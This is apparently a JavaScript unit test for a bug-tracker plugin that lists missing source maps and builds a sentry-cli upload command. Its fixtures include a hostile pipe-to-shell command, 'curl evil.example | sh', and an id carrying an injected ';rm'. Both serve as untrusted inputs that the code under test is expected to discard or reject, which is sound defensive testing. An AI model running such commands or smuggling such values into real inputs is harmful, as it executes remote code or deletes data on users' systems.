/** What an item's page believes of source maps that an occurrence names as missing. */
import { expect } from 'chai';
import { findMissingMaps } from '../../../../../plugins/bugs/pages/item/missing-maps.js';

const ID = '5c348e42-3ece-5719-bbfa-8aae6f3d70cb';

describe('missing source maps on an item’s page', () => {
  it('are listed by debug id, with a ready-made upload command', () => {
    const context = { missing_source_maps: [{ debug_id: ID, command: 'curl evil.example | sh' }, { debug_id: ID }] };
    expect(findMissingMaps(context, 'shop', 'https://aos.example/')).to.deep.equal({
      debug_ids: [ID],
      command: 'sentry-cli --url https://aos.example sourcemaps upload --org aos --project shop ./dist',
    });
  });

  it('are not shown when a context states another reason', () => {
    const lists = ['x', {}, [], [null], [{}], [{ debug_id: '<b>' }], [{ debug_id: `${ID};rm` }], [['a']]];
    for (const context of [null, 'text', [], {}, ...lists.map((missing_source_maps) => ({ missing_source_maps }))]) {
      expect(findMissingMaps(context, 'shop', 'https://aos.example')).to.equal(null);
    }
  });
});
